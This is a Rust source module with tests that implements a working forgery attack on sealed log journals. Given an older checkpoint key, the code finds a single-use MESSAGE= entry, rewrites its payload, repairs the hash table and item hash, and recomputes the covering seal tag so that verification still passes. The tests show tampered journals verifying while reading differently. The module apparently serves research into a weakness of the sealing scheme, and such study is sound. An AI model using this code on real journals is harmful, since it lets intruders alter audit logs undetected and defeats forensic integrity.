//! Tamper/forge attack on a sealed journal.
//!
//! Given a checkpoint key whose minimum epoch is behind the file's last
//! sealed epoch, every tag from that epoch onwards can be recomputed.  The
//! attack picks the last entry sealed in such a range, rewrites part of its
//! `MESSAGE=` payload, repairs the data hash table and the entry's item hash,
//! and forges the covering tag.  The forged tag carries the key's minimum
//! epoch.
//!
//! The scan that finds the target runs a reconnaissance checker: tags older
//! than the key are folded with a placeholder state and not compared, since
//! the attacker cannot evaluate them.

use serde::Serialize;
use thiserror::Error;
use tracing::{debug, info, warn};

use crate::codec::Compression;
use crate::error::Result;
use crate::fsprng::FsKey;
use crate::hashchain::{reduce_hash, HashTable};
use crate::header::JournalHeader;
use crate::object::{content_hash, DataObject, EntryObject, JournalScan, ObjectIndex, ObjectRecord, TagObject};
use crate::seal::{MacChecker, SealError};
use crate::view::Region;

#[derive(Error, Debug)]
pub enum AttackError {
    #[error("no entry with a single-use MESSAGE= field is sealed in the scanned range")]
    NoUsableEntry,
    #[error("bucket {bucket} holds chain {head}..{tail}, data object {offset} must be its only member")]
    UnsupportedCollisionChain { bucket: u64, head: u64, tail: u64, offset: u64 },
    #[error("data object {offset} stores hash {stored:#x}, payload hashes to {computed:#x}")]
    HashMismatch { offset: u64, stored: u64, computed: u64 },
    #[error("payload of data object {offset} is {len} bytes, the edit needs {needed}")]
    PayloadTooShort { offset: u64, len: usize, needed: usize },
    #[error("key starts at epoch {min_epoch}, last sealed epoch is {last_epoch:?}")]
    CheckpointNotBehindSeal { min_epoch: u64, last_epoch: Option<u64> },
    #[error("entry {entry} references {offset}, which is not a data object")]
    MissingReference { entry: u64, offset: u64 },
    #[error("file does not use keyed content hashes")]
    UnkeyedHash,
    #[error("forged tag does not verify: {0}")]
    SelfCheckFailed(#[source] SealError),
}

#[derive(Debug, Clone)]
pub struct AttackOptions {
    /// Field whose payload is rewritten.
    pub field_prefix: Vec<u8>,
    /// Bytes copied over the payload.
    pub replacement:  Vec<u8>,
    /// Payload index the replacement starts at.
    pub replace_at:   usize,
}

impl Default for AttackOptions {
    fn default() -> Self {
        Self { field_prefix: b"MESSAGE=".to_vec(), replacement: b"Attacked".to_vec(), replace_at: 11 }
    }
}

/// What the reconnaissance scan found.
pub struct Reconnaissance {
    /// The last usable sealed entry.
    pub entry:      EntryObject,
    /// Its data object that gets rewritten.
    pub data:       DataObject,
    /// The first tag sealing `entry`.
    pub tag:        TagObject,
    /// Seal cursor just before `tag`'s range.
    pub rollback:   u64,
    pub last_epoch: u64,
    header:         JournalHeader,
    index:          ObjectIndex,
    checker:        MacChecker,
}

impl Reconnaissance {
    pub fn header(&self) -> &JournalHeader {
        &self.header
    }
}

#[derive(Debug, Clone, Serialize)]
pub struct AttackReport {
    pub entry_offset:     u64,
    pub data_offset:      u64,
    pub tag_offset:       u64,
    pub realtime:         u64,
    pub rollback:         u64,
    pub original_epoch:   u64,
    pub forged_epoch:     u64,
    pub original_payload: String,
    pub forged_payload:   String,
    pub original_hash:    u64,
    pub forged_hash:      u64,
    pub original_bucket:  u64,
    pub forged_bucket:    u64,
    pub mac:              String,
}

pub struct Attacker {
    key:     FsKey,
    options: AttackOptions,
}

impl Attacker {
    pub fn new(key: FsKey, options: AttackOptions) -> Self {
        Self { key, options }
    }

    pub fn key(&self) -> &FsKey {
        &self.key
    }

    /// Scan the file once and pick the target.
    pub fn reconnoitre(&self, region: &Region) -> Result<Reconnaissance> {
        let mut scan = JournalScan::open(region)?;
        let header = scan.header().clone();
        if !header.is_keyed_hash() {
            return Err(AttackError::UnkeyedHash.into());
        }
        let mut checker = MacChecker::reconnaissance(self.key.clone(), &header, region.view());

        let mut candidate: Option<(EntryObject, DataObject)> = None;
        let mut best: Option<(EntryObject, DataObject, TagObject, u64)> = None;
        let mut first_realtime: Option<u64> = None;
        let mut last_realtime = 0;
        let mut last_epoch: Option<u64> = None;

        loop {
            let sealed_until = checker.sealed_until();
            let Some(record) = scan.next(region, Some(&mut checker))? else { break };
            match record {
                ObjectRecord::Entry(e) => {
                    first_realtime.get_or_insert(e.realtime);
                    last_realtime = e.realtime;
                    let mut usable = None;
                    for (offset, data) in scan.index().entry_data(&e) {
                        let data = data.ok_or(AttackError::MissingReference { entry: e.offset, offset })?;
                        if usable.is_none() && self.is_usable(data, sealed_until) {
                            usable = Some(data.clone());
                        }
                    }
                    if let Some(data) = usable {
                        debug!(entry = e.offset, data = data.offset, "candidate entry");
                        candidate = Some((e, data));
                    }
                }
                ObjectRecord::Tag(t) => {
                    if let Some((entry, data)) = candidate.take() {
                        best = Some((entry, data, t.clone(), sealed_until));
                    }
                    if let Some(first) = first_realtime.take() {
                        if let Err(e) = self.key.validate_epoch(first, last_realtime, t.epoch) {
                            warn!(tag = t.offset, "{e}");
                        }
                    }
                    last_epoch = Some(last_epoch.map_or(t.epoch, |p| p.max(t.epoch)));
                }
                _ => {}
            }
        }

        let min_epoch = self.key.min_epoch();
        let last_epoch = match last_epoch {
            Some(last) if min_epoch < last => last,
            _ => return Err(AttackError::CheckpointNotBehindSeal { min_epoch, last_epoch }.into()),
        };
        let (entry, data, tag, rollback) = best.ok_or(AttackError::NoUsableEntry)?;
        info!(entry = entry.offset, tag = tag.offset, epoch = tag.epoch, rollback, "target selected");
        Ok(Reconnaissance { entry, data, tag, rollback, last_epoch, header, index: scan.into_index(), checker })
    }

    /// Reconnoitre, then rewrite and reseal the target in place.
    pub fn tamper(&self, region: &mut Region) -> Result<AttackReport> {
        let recon = self.reconnoitre(region)?;
        self.forge(region, recon)
    }

    /// Apply the edit found by [`reconnoitre`](Self::reconnoitre) to
    /// `region`, the scanned file or a byte-identical copy of it.  Every
    /// premise is checked before the first byte is written.
    pub fn forge(&self, region: &mut Region, recon: Reconnaissance) -> Result<AttackReport> {
        let Reconnaissance { mut entry, mut data, mut tag, rollback, header, mut index, mut checker, .. } = recon;
        let hash_key = header.hash_key();
        entry.rebind(region);
        data.rebind(region);
        tag.rebind(region);
        checker.refresh(region);

        let computed = data.compute_hash(hash_key)?;
        if computed != data.hash {
            return Err(AttackError::HashMismatch { offset: data.offset, stored: data.hash, computed }.into());
        }
        let needed = self.options.replace_at + self.options.replacement.len();
        if data.payload.len() < needed {
            return Err(AttackError::PayloadTooShort { offset: data.offset, len: data.payload.len(), needed }.into());
        }

        let table = HashTable::data(&header, region)?;
        let old_bucket = reduce_hash(data.hash, table.buckets());
        let (head, tail) = table.bucket(region, old_bucket)?;
        if head != data.offset || tail != data.offset || data.next_hash_offset != 0 {
            return Err(AttackError::UnsupportedCollisionChain { bucket: old_bucket, head, tail, offset: data.offset }.into());
        }

        let mut forged = data.clone();
        forged.payload[self.options.replace_at..needed].copy_from_slice(&self.options.replacement);
        forged.hash = content_hash(hash_key, &forged.payload);
        let new_bucket = reduce_hash(forged.hash, table.buckets());
        if new_bucket != old_bucket {
            let (head, tail) = table.bucket(region, new_bucket)?;
            if head != 0 || tail != 0 {
                return Err(AttackError::UnsupportedCollisionChain { bucket: new_bucket, head, tail, offset: data.offset }.into());
            }
        }

        // Content, hash table, entry item.
        table.set_bucket(region, old_bucket, 0, 0)?;
        forged.write_back(region)?;
        if entry.write_item_hash(region, forged.offset, forged.hash)? == 0 {
            return Err(AttackError::MissingReference { entry: entry.offset, offset: forged.offset }.into());
        }
        table.set_bucket(region, new_bucket, forged.offset, forged.offset)?;
        index.update_data(forged.clone());
        debug!(data = forged.offset, old_bucket, new_bucket, "payload rewritten");

        // Tag.
        let original_epoch = tag.epoch;
        checker.rewind(rollback);
        tag.epoch = self.key.min_epoch();
        tag.write_back(region)?;
        tag.mac = checker.mac_for(region, tag.mac_range_end(), tag.epoch)?;
        tag.write_back(region)?;

        checker.rewind(rollback);
        checker
            .check(region, tag.mac_range_end(), tag.epoch, &tag.mac)
            .map_err(AttackError::SelfCheckFailed)?;

        info!(
            entry = entry.offset,
            tag = tag.offset,
            original_epoch,
            forged_epoch = tag.epoch,
            "forged tag verifies"
        );
        Ok(AttackReport {
            entry_offset: entry.offset,
            data_offset: forged.offset,
            tag_offset: tag.offset,
            realtime: entry.realtime,
            rollback,
            original_epoch,
            forged_epoch: tag.epoch,
            original_payload: String::from_utf8_lossy(&data.payload).into_owned(),
            forged_payload: String::from_utf8_lossy(&forged.payload).into_owned(),
            original_hash: data.hash,
            forged_hash: forged.hash,
            original_bucket: old_bucket,
            forged_bucket: new_bucket,
            mac: hex::encode(tag.mac),
        })
    }

    /// A rewritable data object: uncompressed, the wanted field, referenced
    /// by exactly one entry and written after the last sealed range.
    fn is_usable(&self, data: &DataObject, sealed_until: u64) -> bool {
        data.n_entries == 1
            && data.body_offset() >= sealed_until
            && matches!(data.compression(), Ok(Compression::None))
            && data.payload.starts_with(&self.options.field_prefix)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::Error;
    use crate::verify::{query, verify, verify_with, EpochWindowCheck, VerifyOptions};
    use crate::writer::{JournalWriter, WriterOptions};

    const SEC: u64 = 1_000_000;
    const TARGET: &[u8] = b"MESSAGE=user alice logged in from 10.0.0.7";

    fn secret() -> FsKey {
        FsKey::from_seed_bytes([7; 12], 100 * SEC, 10 * SEC)
    }

    fn options() -> WriterOptions {
        WriterOptions { data_buckets: 16381, field_buckets: 509, ..Default::default() }
    }

    /// Epoch 0: the target and a heartbeat.  Epoch 1: the heartbeat again.
    fn two_epoch_journal() -> Region {
        let mut w = JournalWriter::new(secret(), options()).unwrap();
        w.append(101 * SEC, &[TARGET, b"PRIORITY=6".as_slice()]).unwrap();
        w.append(102 * SEC, &[b"MESSAGE=heartbeat".as_slice(), b"PRIORITY=6".as_slice()]).unwrap();
        w.append(111 * SEC, &[b"MESSAGE=heartbeat".as_slice(), b"PRIORITY=6".as_slice()]).unwrap();
        w.seal().unwrap();
        w.into_region().unwrap()
    }

    #[test]
    fn reconnaissance_picks_the_single_use_message() {
        let region = two_epoch_journal();
        let attacker = Attacker::new(secret().checkpoint_at(0).unwrap(), AttackOptions::default());
        let recon = attacker.reconnoitre(&region).unwrap();
        assert_eq!(recon.data.payload, TARGET);
        assert_eq!(recon.entry.realtime, 101 * SEC);
        assert_eq!(recon.tag.epoch, 0);
        assert_eq!(recon.last_epoch, 1);
        assert!(recon.rollback > 0 && recon.rollback <= recon.data.offset);
    }

    #[test]
    fn tampered_journal_verifies_and_reads_differently() {
        let original = two_epoch_journal();
        let mut patched = Region::from_bytes(original.as_bytes().to_vec());
        let checkpoint = secret().checkpoint_at(0).unwrap();
        let report = Attacker::new(checkpoint.clone(), AttackOptions::default()).tamper(&mut patched).unwrap();

        assert_eq!(report.forged_epoch, 0);
        assert_eq!(report.forged_payload, "MESSAGE=useAttackedlogged in from 10.0.0.7");
        assert_ne!(report.original_hash, report.forged_hash);

        let before = verify(&original, &checkpoint).unwrap();
        let after = verify(&patched, &checkpoint).unwrap();
        assert!(after.last_sealed_realtime >= before.last_sealed_realtime);
        assert!(verify(&patched, &secret()).is_ok());

        let until = before.last_sealed_realtime.unwrap() + SEC;
        assert_ne!(query(&original, until).unwrap(), query(&patched, until).unwrap());
    }

    #[test]
    fn later_checkpoint_lifts_the_tag_epoch() {
        let mut w = JournalWriter::new(secret(), options()).unwrap();
        w.append(101 * SEC, &[TARGET]).unwrap();
        w.append(111 * SEC, &[b"MESSAGE=hb".as_slice()]).unwrap();
        w.append(112 * SEC, &[b"MESSAGE=hb".as_slice()]).unwrap();
        w.append(121 * SEC, &[b"MESSAGE=hb".as_slice()]).unwrap();
        w.seal().unwrap();
        let original = w.into_region().unwrap();

        let mut patched = Region::from_bytes(original.as_bytes().to_vec());
        let report = Attacker::new(secret().checkpoint_at(1).unwrap(), AttackOptions::default())
            .tamper(&mut patched)
            .unwrap();
        assert_eq!(report.original_epoch, 0);
        assert_eq!(report.forged_epoch, 1);

        let lax = VerifyOptions { epoch_windows: EpochWindowCheck::UpperBound };
        assert!(verify_with(&patched, &secret(), &lax).is_ok());
        let strict = verify(&patched, &secret()).unwrap_err();
        assert!(matches!(strict, Error::Seal(SealError::EpochWindowViolation { epoch: 1, .. })), "{strict}");

        let until = 122 * SEC;
        assert_ne!(query(&original, until).unwrap(), query(&patched, until).unwrap());
    }

    #[test]
    fn key_at_the_last_sealed_epoch_is_refused() {
        let region = two_epoch_journal();
        let attacker = Attacker::new(secret().checkpoint_at(1).unwrap(), AttackOptions::default());
        let err = attacker.reconnoitre(&region).err().unwrap();
        assert!(
            matches!(err, Error::Attack(AttackError::CheckpointNotBehindSeal { min_epoch: 1, last_epoch: Some(1) })),
            "{err}"
        );
    }

    #[test]
    fn journal_without_single_use_messages_has_no_target() {
        let mut w = JournalWriter::new(secret(), options()).unwrap();
        w.append(101 * SEC, &[b"MESSAGE=heartbeat".as_slice()]).unwrap();
        w.append(111 * SEC, &[b"MESSAGE=heartbeat".as_slice()]).unwrap();
        w.seal().unwrap();
        let region = w.into_region().unwrap();
        let attacker = Attacker::new(secret().checkpoint_at(0).unwrap(), AttackOptions::default());
        let err = attacker.reconnoitre(&region).err().unwrap();
        assert!(matches!(err, Error::Attack(AttackError::NoUsableEntry)), "{err}");
    }

    #[test]
    fn short_payload_is_refused_before_any_write() {
        let mut w = JournalWriter::new(secret(), options()).unwrap();
        w.append(101 * SEC, &[b"MESSAGE=hi".as_slice()]).unwrap();
        w.append(111 * SEC, &[b"MESSAGE=tick".as_slice()]).unwrap();
        w.append(112 * SEC, &[b"MESSAGE=tick".as_slice()]).unwrap();
        w.seal().unwrap();
        let original = w.into_region().unwrap();

        let mut copy = Region::from_bytes(original.as_bytes().to_vec());
        let attacker = Attacker::new(secret().checkpoint_at(0).unwrap(), AttackOptions::default());
        let err = attacker.tamper(&mut copy).unwrap_err();
        assert!(
            matches!(err, Error::Attack(AttackError::PayloadTooShort { len: 10, needed: 19, .. })),
            "{err}"
        );
        assert_eq!(copy.as_bytes(), original.as_bytes());
    }

    #[test]
    fn stale_stored_hash_is_a_mismatch() {
        let region = two_epoch_journal();
        let attacker = Attacker::new(secret().checkpoint_at(0).unwrap(), AttackOptions::default());
        let mut recon = attacker.reconnoitre(&region).unwrap();
        recon.data.hash ^= 1;
        let mut copy = Region::from_bytes(region.as_bytes().to_vec());
        let err = attacker.forge(&mut copy, recon).err().unwrap();
        assert!(matches!(err, Error::Attack(AttackError::HashMismatch { .. })), "{err}");
    }

    #[test]
    fn unkeyed_files_are_refused() {
        let mut region = two_epoch_journal();
        let mut header = JournalHeader::read(&region.view(), &region).unwrap();
        header.incompatible_flags &= !crate::header::INCOMPATIBLE_KEYED_HASH;
        header.write(&mut region).unwrap();
        let attacker = Attacker::new(secret().checkpoint_at(0).unwrap(), AttackOptions::default());
        let err = attacker.reconnoitre(&region).err().unwrap();
        assert!(matches!(err, Error::Attack(AttackError::UnkeyedHash)), "{err}");
    }
}
